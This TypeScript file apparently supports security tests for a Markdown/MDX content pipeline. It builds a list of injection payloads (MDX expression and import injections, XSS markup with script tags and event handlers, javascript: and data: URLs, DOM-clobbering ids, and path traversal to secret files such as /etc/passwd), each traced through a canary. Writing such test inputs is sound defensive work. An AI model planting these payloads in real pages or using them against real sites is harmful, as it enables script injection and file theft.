import type { Canary } from './canary.ts';

/** Names that browsers and JavaScript know already: as an id or a key they would stand in the way of something. */
export const clobbering = [
  ...['location', 'document', 'forms', 'getElementById', 'constructor', '__proto__', 'prototype', 'toString'],
  ...['hasOwnProperty', 'main', 'search', 'default', 'frontmatter', 'layout', 'components', 'props'],
] as const;

const programs = ({ program, secretFile, address }: Canary): string[] => [
  ...[`{${program}}`, `{(()=>{${program}})()}`, `{...${program}}`, `{[${program}]}`, `{\`\${${program}}\`}`],
  ...[`import '${secretFile}'\n`, `import a from "${secretFile}"\n`, `import\ta from '${secretFile}'\n`],
  ...[`export * from "${secretFile}"\n`, `export const a = ${program}\n`, `export default ${program}\n`],
  ...[`import 'data:text/javascript,${encodeURIComponent(program)}'\n`, `import '${address}/a.mjs'\n`],
  ...[`export {default} from '${secretFile}'\n`, `{/* ${program} */}`, `{await import('${secretFile}')}`],
  ...[
    `---js\n${program}\n---\n`,
    `+++\nlayout = "${secretFile}"\n+++\n`,
    `<% ${program} %>`,
    `#{${program}}`,
  ],
];

const markup = ({ program, address }: Canary): string[] => [
  ...[`<script>${program}</script>`, `<script src="${address}"></script>`, `<SCRIPT>${program}</SCRIPT>`],
  ...[`<img src=x onerror="${program}">`, `<img src="${address}/a.png"/>`, `<svg onload="${program}"/>`],
  ...[`<svg><script>${program}</script></svg>`, `<math><mi xlink:href="${address}">x</mi></math>`],
  ...[`<iframe src="${address}"></iframe>`, `<iframe srcdoc="<script>${program}</script>"/>`],
  ...[`<object data="${address}"/>`, `<embed src="${address}"/>`, `<base href="${address}/"/>`],
  ...[`<form action="${address}"><input name="q"/></form>`, `<button formaction="${address}">x</button>`],
  ...[`<style>@import "${address}";</style>`, `<link rel="stylesheet" href="${address}"/>`],
  ...[`<meta http-equiv="refresh" content="0;url=${address}"/>`, `<video src="${address}" autoplay/>`],
  ...[
    `<div data-pagefind-body>x</div>`,
    '<p data-pagefind-ignore>x</p>',
    `<a ping="${address}" href="#a">x</a>`,
  ],
  ...[
    '</article>',
    '</main>',
    '</script>',
    '</title>',
    '</textarea>',
    '<!--',
    '-->',
    '<![CDATA[',
    '<?php',
    ']]>',
  ],
  ...['<template>', '<noscript>', '<plaintext>', '<xmp>', '<select>', '<table><tr>', '<frameset>'],
  ...clobbering.flatMap((name) => [`<a id="${name}" name="${name}">x</a>`, `<${name}/>`]),
  ...[`<Note onclick="${program}">x</Note>`, `<Note id="main">x</Note>`, `<Note style="color:red">x</Note>`],
  ...[
    `<Note {...${program}}>x</Note>`,
    `<Quote by={${program}}>x</Quote>`,
    `<Quote by="${'"><b>'}">x</Quote>`,
  ],
  ...[
    `<Note client:load>x</Note>`,
    `<Note set:html="<b>">x</Note>`,
    '<Note.Item/>',
    '<a:b/>',
    '<this/>',
    '<_/>',
  ],
  ...[`<Figure src="${address}/a.png" alt="x"/>`, `<Figure src="./chart.png" alt="x" onload="${program}"/>`],
  ...[
    `<Finding id="&quot;><script>${program}</script>"/>`,
    '<Finding id="__proto__"/>',
    '<Findings on="x"/>',
  ],
];

const addresses = ({ program, secretFile, address }: Canary): string[] => {
  const targets = [
    ...[
      `javascript:${program}`,
      `JaVaScRiPt:${program}`,
      `java\tscript:${program}`,
      `&#106;avascript:${program}`,
    ],
    ...[
      `data:text/html,<script>${program}</script>`,
      `vbscript:${program}`,
      `file://${secretFile}`,
      secretFile,
    ],
    ...[
      address,
      `//${address.slice(7)}`,
      `https:${address.slice(5)}`,
      `\\\\${address.slice(7)}`,
      '/admin',
      '?q=1',
    ],
    ...[
      `https://user:pass@example.org`,
      'https://example.org:8443/',
      'https://ex\u200bample.org/',
      'https://a"b.org/',
    ],
    ...[
      '#"><script>',
      '#main',
      '#__proto__',
      '../../../../etc/passwd',
      '..%2f..%2fetc',
      './chart.png?x',
      './chart.svg',
    ],
    ...[
      './chart.mjs',
      './../a/chart.png',
      './%2e%2e/chart.png',
      `${secretFile}.png`,
      'blob:x',
      'mailto:a@b.org',
    ],
  ];
  return targets.flatMap((to) => [
    `[x](${to})`,
    `[x](<${to}>)`,
    `![x](${to})`,
    `<Resource href="${to}" title="x"/>`,
    `<Video href="${to}" title="x"/>`,
    `\n[r]: ${to} "t"\n`,
    `<Figure src="${to}" alt="x"/>`,
  ]);
};

/** Texts that would do harm if they were taken for more than text, each told apart by what it would do to the canary. */
export const payloads = (canary: Canary): readonly string[] => [
  ...programs(canary),
  ...markup(canary),
  ...addresses(canary),
];
